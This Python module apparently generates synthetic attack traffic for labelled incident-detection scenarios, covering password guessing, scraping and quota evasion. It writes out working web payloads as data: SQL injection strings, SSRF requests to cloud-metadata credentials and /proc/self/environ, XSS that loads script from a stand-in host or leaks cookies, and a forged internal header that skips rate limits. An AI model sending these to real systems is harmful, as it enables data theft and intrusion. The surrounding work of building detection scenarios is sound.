"""Strangers who are after accounts, holes, the catalogue, or more than their share."""

from __future__ import annotations

from collections.abc import Mapping, Sequence

from ... import effects as fx
from ...builder import MINUTE, Builder, Crowd, Span
from ...scenario import Told
from ._parts import (
    AGENTS,
    INTRUDERS,
    door_rattling,
    dwellings,
    index_backlog,
    judged,
    left,
    local_hour,
    loud_analytics,
    morning_blip,
    old_clients,
    pages_shipped,
    slow_pictures,
    spoken,
    warp_trouble,
)

GUESSES, PAYLOADS, HARVEST, EVASION = "brute_force", "injection_attack", "scraping", "rate_limit_bypass"
LOGIN = "/api/auth/login"


def _tries(
    b: Builder,
    key: str,
    span: Span,
    *,
    per_min: float,
    addresses: Sequence[str],
    agents: Sequence[str],
    accounts: Sequence[str],
    lucky: float = 0.0,
    blocked: float = 0.0,
) -> None:
    """Let passwords be tried."""
    outcomes = {401: 1 - lucky, 200: lucky} if lucky else {401: 1.0}
    fx.crowd(
        b,
        Crowd(
            key=key,
            route=LOGIN,
            method="POST",
            per_min=per_min,
            span=span,
            addresses=addresses,
            agents=agents,
            accounts=accounts,
            outcomes=outcomes,
            logged=1.0,
            blocked=blocked,
            rule="ratelimit-signin" if blocked else "",
        ),
    )


def dictionary(b: Builder) -> Told:
    """One machine tries a whole dictionary against one account, at dawn."""
    local_hour(b, 5.8)
    warp_trouble(b)
    span = b.until_mended(b.onset_ms)
    owner = ("owner.pitchey",)
    who = fx.strangers(b, "dictionary", 1)
    _tries(
        b, "dictionary", span, per_min=b.between("rate", 34, 55), addresses=who, agents=("hydra/9.6",), accounts=owner
    )
    notice = spoken("auth", "lockout", "owner.pitchey reached {waiting} wrong passwords, captcha asked", level="warn")
    fx.say(b, "dictionary notice", notice, 0.6, span)
    return Told(services=("auth",), routes=(LOGIN,), severity="P2")


def bought_pairs(b: Builder) -> Told:
    """Bought pairs of mail and password through nine hundred homes, hidden in the noon's sign-ins; some fit."""
    local_hour(b, 12.8)
    old_clients(b)
    span = b.until_mended(b.onset_ms, ramp_s=300.0)
    _tries(
        b,
        "bought pairs",
        span,
        per_min=b.between("rate", 38, 62),
        addresses=dwellings(b, "bought pairs", 900),
        agents=AGENTS[:3],
        accounts=[f"u{i:05d}" for i in range(150, 2850)],
        lucky=0.02,
        blocked=0.1,
    )
    odd = spoken("auth", "risk", "sign-ins from new devices: {n} in the last minute, usual 2", level="warn")
    fx.say(b, "bought pairs odd", odd, 0.7, span)
    return Told(services=("auth",), routes=(LOGIN,), severity="P1")


def six_patient_ones(b: Builder) -> Told:
    """Six addresses share forty accounts, a try or two a minute each, for most of an hour; at last one opens."""
    local_hour(b, 22.7)
    door_rattling(b)
    morning_blip(b)
    span = b.until_mended(b.onset_ms, ramp_s=60.0)
    who = fx.strangers(b, "six", 6, "77.91.103.")
    names = [f"u{i:05d}" for i in range(3300, 3340)]
    agents = ("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",)
    _tries(b, "six", span, per_min=b.between("rate", 9, 13), addresses=who, agents=agents, accounts=names)
    opened = b.onset_ms + int(b.between("opened", 18, 26) * MINUTE)
    inside = Span(opened, opened + MINUTE)
    _tries(b, "six in", inside, per_min=3.0, addresses=who[:1], agents=agents, accounts=names[7:8], lucky=1.0)
    return Told(services=("auth",), routes=(LOGIN,), severity="P1")


def _payloads(
    b: Builder,
    key: str,
    urls: Mapping[str, tuple[str, ...]],
    *,
    per_min: float,
    addresses: Sequence[str],
    agents: Sequence[str],
    outcomes: Mapping[int, float],
    blocked: float,
    kinds: Mapping[str, float],
) -> Told:
    """Let *urls* be tried, *per_min* of each route, with the security service counting *kinds* a minute."""
    span = b.until_mended(b.onset_ms, ramp_s=b.between(f"{key} ramp", 0, 120))
    for path, texts in urls.items():
        fx.crowd(
            b,
            Crowd(
                key=f"{key} {path}",
                route=path,
                per_min=per_min,
                span=span,
                addresses=addresses,
                agents=agents,
                urls=texts,
                outcomes=outcomes,
                logged=0.85,
                blocked=blocked,
                rule="managed-932100",
            ),
        )
    for kind, rate in kinds.items():
        fx.security_events(b, kind, span, rate)
    return Told(services=("api-gateway", "security"), routes=tuple(urls), severity="P2")


def cast_errors(b: Builder) -> Told:
    """Somebody signed in makes the database say its secrets in error messages, letter by letter."""
    local_hour(b, 15.3)
    index_backlog(b)
    urls = {
        "/api/creator/pitches": (
            "/api/creator/pitches?order=id%20AND%201=CAST((SELECT%20current_user)%20AS%20int)",
            "/api/creator/pitches?order=(CASE%20WHEN%20ASCII(SUBSTRING((SELECT%20email%20FROM%20users%20LIMIT%201),"
            "{n},1))%3E{n}%20THEN%20id%20ELSE%20title%20END)",
            "/api/creator/pitches?order=id;SELECT%20CASE%20WHEN(1=1)%20THEN%20pg_sleep({small})%20END--",
        ),
        "/api/investor/portfolio": (
            "/api/investor/portfolio?year=2026%27%29%20UNION%20ALL%20SELECT%20NULL,table_name%20FROM%20"
            "information_schema.tables--",
            "/api/investor/portfolio?year=2026%27%20AND%20{id}%3D{id}%20AND%20%27a%27%3D%27a",
        ),
    }
    return _payloads(
        b,
        "cast errors",
        urls,
        per_min=b.between("rate", 7, 12),
        addresses=fx.strangers(b, "cast errors", 2),
        agents=("ghauri/1.4.2", "Mozilla/5.0 (Windows NT 10.0; rv:109.0) Gecko/20100101"),
        outcomes={500: 0.12, 400: 0.38, 200: 0.5},
        blocked=0.2,
        kinds={"sql_injection_attempt": b.between("counted", 5, 10)},
    )


def inside_addresses(b: Builder) -> Told:
    """The thumbnail route is asked for addresses inside the cloud and files of the machine."""
    local_hour(b, 0.4)
    pages_shipped(b)
    old_clients(b)
    urls = {
        "/api/media/thumbnail": (
            "/api/media/thumbnail?src=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "/api/media/thumbnail?src=gopher://127.0.0.1:6379/_INFO%250d%250a{hex}",
            "/api/media/thumbnail?src=file:///proc/self/environ",
            "/api/media/thumbnail?src=http://[::ffff:7f00:1]:8787/admin/{hex}",
            "/api/media/thumbnail?src=..;/..;/WEB-INF/web.xml",
        )
    }
    return _payloads(
        b,
        "inside",
        urls,
        per_min=b.between("rate", 18, 30),
        addresses=fx.strangers(b, "inside", 7),
        agents=AGENTS[:2],
        outcomes={400: 0.55, 404: 0.3, 200: 0.12, 500: 0.03},
        blocked=0.3,
        kinds={"sql_injection_attempt": 1.0, "anomalous_behavior": b.between("counted", 4, 8)},
    )


def markup(b: Builder) -> Told:
    """Markup of every kind through search, genres and inbox, from a rented network, while a release looks guilty."""
    local_hour(b, 17.7)
    slow_pictures(b)
    urls = {
        "/api/pitches/search": (
            "/api/pitches/search?q=%3Cdetails%20open%20ontoggle=import(%27//{hex}.xss.example%27)%3E",
            "/api/pitches/search?q=%22autofocus%20onfocus=eval(atob(this.id))%20id=dmFy{hex}",
        ),
        "/api/messages": (
            "/api/messages?draft=%3Ciframe%20srcdoc=%22%26lt;script%3Eparent.postMessage(document.cookie)%22%3E",
            "/api/messages?draft=%253Cmath%253E%253Cmtext%253E%253Cstyle%253E%253Cimg%2520src%2520onerror%253Dprompt({n})",
        ),
    }
    return _payloads(
        b,
        "markup",
        urls,
        per_min=b.between("rate", 9, 16),
        addresses=fx.strangers(b, "markup", 22, "89.248.165."),
        agents=("XSStrike/3.1.5", "dalfox/2.9", AGENTS[0]),
        outcomes={400: 0.3, 422: 0.2, 200: 0.48, 500: 0.02},
        blocked=0.12,
        kinds={"xss_attempt": b.between("counted", 8, 14)},
    )


def _walk(
    b: Builder,
    key: str,
    urls: Mapping[str, tuple[str, ...]],
    *,
    per_min: float,
    addresses: Sequence[str],
    agents: Sequence[str],
    missing: float,
    queries: float,
    ramp_s: float = 0.0,
) -> Told:
    """Let somebody walk through everything, *per_min* on each route."""
    span = b.until_mended(b.onset_ms, ramp_s=ramp_s)
    for path, texts in urls.items():
        fx.crowd(
            b,
            Crowd(
                key=f"{key} {path}",
                route=path,
                per_min=per_min,
                span=span,
                addresses=addresses,
                agents=agents,
                urls=texts,
                outcomes={200: 1 - missing, 404: missing},
                logged=0.5,
                took_ms=85.0,
            ),
        )
    fx.database(b, span, queryCount=(queries, 0.0), avgQueryTime=(1.1, 0.0))
    services = {"/pitches": "frontend", "/api/browse": "browse", "/api/media/thumbnail": "upload"}
    return Told(
        services=tuple(dict.fromkeys(services.get(p, "pitch") for p in urls)), routes=tuple(urls), severity="P3"
    )


def training_data(b: Builder) -> Told:
    """A collector of training data with a name of its own reads pages and API as fast as it gets answers."""
    local_hour(b, 2.9)
    loud_analytics(b)
    return _walk(
        b,
        "training",
        {
            "/pitches": ("/pitches?page={id}", "/pitches?genre=documentary&page={id}"),
            "/api/pitches": ("/api/pitches?page={id}&fields=all",),
        },
        per_min=b.between("rate", 48, 75),
        addresses=fx.strangers(b, "training", 16, "47.128.22."),
        agents=("Mozilla/5.0 (compatible; CorpusGather/2.4; +https://corpus-gather.example/bot)",),
        missing=0.03,
        queries=1.4,
    )


def counting_up(b: Builder) -> Told:
    """Number after number, from one to ninety-nine thousand, by a ring of rented machines on a busy afternoon."""
    local_hour(b, 16.3)
    door_rattling(b)
    return _walk(
        b,
        "counting up",
        {"/api/pitches": ("/api/pitches?id={id}", "/api/pitches?id={id}&expand=budget,contacts")},
        per_min=b.between("rate", 85, 130),
        addresses=fx.strangers(b, "counting up", 60, "193.233.20."),
        agents=AGENTS[:1],
        missing=0.3,
        queries=1.6,
        ramp_s=240.0,
    )


def unhurried(b: Builder) -> Told:
    """Two addresses go through all searches from aa to zz and every picture, unhurried, since before the window."""
    local_hour(b, 10.5)
    pages_shipped(b)
    return _walk(
        b,
        "unhurried",
        {
            "/api/pitches/search": ("/api/pitches/search?q={hex}&limit=200&offset={id}",),
            "/api/browse": ("/api/browse?page={id}&limit=200&sort=oldest",),
        },
        per_min=b.between("rate", 17, 25),
        addresses=fx.strangers(b, "unhurried", 2),
        agents=("curl/8.5.0",),
        missing=0.01,
        queries=1.25,
    )


def _past_limits(
    b: Builder,
    key: str,
    path: str,
    *,
    per_min: float,
    addresses: Sequence[str],
    agents: Sequence[str],
    urls: tuple[str, ...],
    metadata: str,
    hints: tuple[str, ...],
    user: str = "",
    refused: float = 0.02,
) -> Told:
    """Let one client get far more than its share, as the gateway hints now and then."""
    span = b.until_mended(b.onset_ms, ramp_s=b.between(f"{key} ramp", 0, 90))
    fx.crowd(
        b,
        Crowd(
            key=key,
            route=path,
            per_min=per_min,
            span=span,
            addresses=addresses,
            agents=agents,
            urls=urls,
            outcomes={200: 1 - refused, 429: refused},
            logged=0.45,
            user=user,
            metadata=metadata,
            took_ms=95.0,
            entries=(
                left(*hints, service="api-gateway", component="quota", level="warn", share=0.18, most_per_min=10),
            ),
        ),
    )
    fx.database(b, span, queryCount=(1.3, 0.0))
    return Told(services=("api-gateway",), routes=(path,), severity="P3")


def trial_keys(b: Builder) -> Told:
    """One machine asks with a fresh trial key every few requests, and each key has an allowance of its own."""
    local_hour(b, 13.6)
    warp_trouble(b)
    index_backlog(b)
    return _past_limits(
        b,
        "trial keys",
        "/api/pitches",
        per_min=b.between("rate", 100, 150),
        addresses=fx.strangers(b, "trial keys", 1),
        agents=("Apache-HttpClient/5.3.1 (Java/21)",),
        urls=("/api/pitches?limit=100&cursor={hex}", "/api/pitches?limit=100&api_key=trial_{hex}"),
        metadata='{{"api_key":"trial_{hex}","quota":"60 per key"}}',
        hints=("quota is per key: {ip} used {waiting} trial keys within 60 s, none of them over quota",),
    )


def inner_call(b: Builder) -> Told:
    """A forged header says that the calls come from inside, where nobody counts."""
    local_hour(b, 20.9)
    slow_pictures(b)
    return _past_limits(
        b,
        "inner call",
        "/api/browse",
        per_min=b.between("rate", 75, 115),
        addresses=fx.strangers(b, "inner call", 3, "212.102.40."),
        agents=("got (https://github.com/sindresorhus/got)",),
        urls=("/api/browse?page={id}&limit=500",),
        metadata='{{"x-internal-service":"search-index","verified":false}}',
        user="u01902",
        hints=(
            "x-internal-service: search-index sent by outside address {ip}, limiter skipped",
            "limiter skipped {waiting} times this minute for callers that claim to be internal",
        ),
        refused=0.005,
    )


def many_guests(b: Builder) -> Told:
    """A ring of proxies with one and the same handshake; each request is a new guest with a full allowance."""
    local_hour(b, 9.0)
    morning_blip(b)
    return _past_limits(
        b,
        "many guests",
        "/api/pitches/search",
        per_min=b.between("rate", 90, 140),
        addresses=fx.strangers(b, "many guests", 170),
        agents=("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0.6099.109 Safari/537.36",),
        urls=("/api/pitches/search?q={hex}&guest={hex}",),
        metadata='{{"guest":"g-{hex}","ja4":"t13d1516h2_8daaf6152771_02713d6af862"}}',
        hints=(
            "one handshake fingerprint, {waiting} guest sessions and as many addresses within 60 s, limit never met",
        ),
    )


SCENARIOS = (
    judged(
        "enter_dictionary",
        "A dictionary against one account",
        GUESSES,
        dictionary,
        INTRUDERS,
        onset_min=(10, 20),
        beside=("clock_skew",),
    ),
    judged(
        "enter_bought_pairs",
        "Bought pairs at noon",
        GUESSES,
        bought_pairs,
        INTRUDERS,
        onset_min=(20, 32),
        beside=("slow_sidekick",),
        seeds=3,
    ),
    judged(
        "enter_six",
        "Six patient addresses",
        GUESSES,
        six_patient_ones,
        INTRUDERS,
        onset_min=(42, 56),
        beside=("logs_unseen",),
    ),
    judged(
        "inject_cast_errors",
        "The database made to speak",
        PAYLOADS,
        cast_errors,
        INTRUDERS,
        onset_min=(16, 28),
        beside=("unrelated_deployment",),
    ),
    judged(
        "inject_inside",
        "Addresses inside the cloud",
        PAYLOADS,
        inside_addresses,
        INTRUDERS,
        onset_min=(12, 22),
        beside=("logs_lost", "logs_unseen"),
    ),
    judged(
        "inject_markup",
        "Markup of every kind",
        PAYLOADS,
        markup,
        INTRUDERS,
        onset_min=(22, 36),
        beside=("harmless_production_deployment",),
        seeds=3,
    ),
    judged(
        "harvest_training",
        "A collector of training data",
        HARVEST,
        training_data,
        INTRUDERS,
        onset_min=(24, 40),
        beside=("few_typists",),
        seeds=3,
    ),
    judged(
        "harvest_counting",
        "Number after number",
        HARVEST,
        counting_up,
        INTRUDERS,
        onset_min=(14, 24),
        beside=("logs_unseen", "logs_lost"),
    ),
    judged(
        "harvest_unhurried",
        "All searches, unhurried",
        HARVEST,
        unhurried,
        INTRUDERS,
        onset_min=(85, 110),
        beside=("slow_sidekick", "clock_skew"),
    ),
    judged(
        "quota_trial_keys",
        "A new trial key each time",
        EVASION,
        trial_keys,
        INTRUDERS,
        onset_min=(16, 28),
        beside=("harmless_production_deployment",),
    ),
    judged(
        "quota_inner_call",
        "Calls that say they come from inside",
        EVASION,
        inner_call,
        INTRUDERS,
        onset_min=(20, 34),
        beside=("few_typists", "slow_sidekick"),
        seeds=3,
    ),
    judged(
        "quota_many_guests",
        "Each request a new guest",
        EVASION,
        many_guests,
        INTRUDERS,
        onset_min=(12, 22),
        beside=("logs_unseen",),
    ),
)
